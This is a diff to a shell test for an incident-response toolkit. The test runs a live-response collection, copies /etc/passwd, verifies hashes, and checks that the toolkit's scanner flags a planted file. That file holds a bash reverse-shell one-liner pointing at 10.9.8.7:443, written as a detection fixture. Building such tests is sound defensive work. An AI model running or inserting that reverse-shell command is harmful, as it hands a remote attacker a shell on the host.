@@ -122,26 +122,29 @@ plant_tree() {
 
 @test "live-response: this host into a verified package; every step recorded" {
 	need_root
-	playbook_live() {
-		local rc=0
-		IRKIT_BIN=$IRKIT_BIN sh "$PB/live-response.sh" -r "$RULES" live1 out \
-		    >pkg.out 2>"$BATS_TEST_TMPDIR/stderr" || rc=$?
-		check_sanitizer "$BATS_TEST_TMPDIR/stderr"
-		# 1: a finding on this test host is a result; 3: something of
-		# the host could not be read (said).  Never 2 or a crash.
-		case $rc in 0 | 1 | 3) ;; *)
-			sed 's/^/stderr: /' "$BATS_TEST_TMPDIR/stderr" >&2
-			fail "live-response.sh: exit $rc" ;;
-		esac
-	}
-	playbook_live
+	# A small catalogue, a planted hot directory and one system directory
+	# keep the run short; the defaults are the same steps over more.
+	cat >cat.json <<'EOF2'
+{ "category": "accounts", "description": "test",
+  "artifacts": [ { "name": "passwd", "description": "accounts",
+    "paths": ["/etc/passwd", "/etc/hostname"], "max_size": "1M" } ] }
+EOF2
+	mkdir -p "hot dir"
+	printf 'bash -i >& /dev/tcp/10.9.8.7/443 0>&1\n' >"hot dir/x.sh"
+	playbook "1 3" live-response -r "$RULES" -C cat.json -d "$PWD/hot dir" \
+	    -w /usr/bin live1 out
 	run_tool 0 verify.out ir-verify out/live1.tar.gz
 	unpack out/live1.tar.gz bag
 	assert_eq "$(custody_tools bag)" \
 	    "ir-live ir-scan ir-collect ir-scan ir-walk " "custody"
-	# ir-live saw this very shell; ir-walk hashed /usr/bin/env as sha256sum does.
+	# ir-live saw this very shell; ir-collect copied /etc/passwd as it is;
+	# the planted script matched; ir-walk hashed /usr/bin/env as sha256sum.
 	jq -e -s --argjson p $$ 'any(.[]; .type == "process" and .pid == $p)' \
 	    bag/data/ir-live-*.jsonl >/dev/null || fail "no process record of $$"
+	cmp /etc/passwd bag/data/collect/etc/passwd
+	assert_eq "$(jq -r 'select(.type == "match") | .rule' \
+	    bag/data/ir-scan-*.jsonl | sort -u | grep reverse)" \
+	    irkit_reverse_shell_oneliner "planted match"
 	assert_eq "$(jq -r 'select(.path == "/usr/bin/env") | .sha256' bag/data/ir-walk-*.jsonl)" \
 	    "$(sha256sum /usr/bin/env | cut -d' ' -f1)" "sha256 of /usr/bin/env"
 }
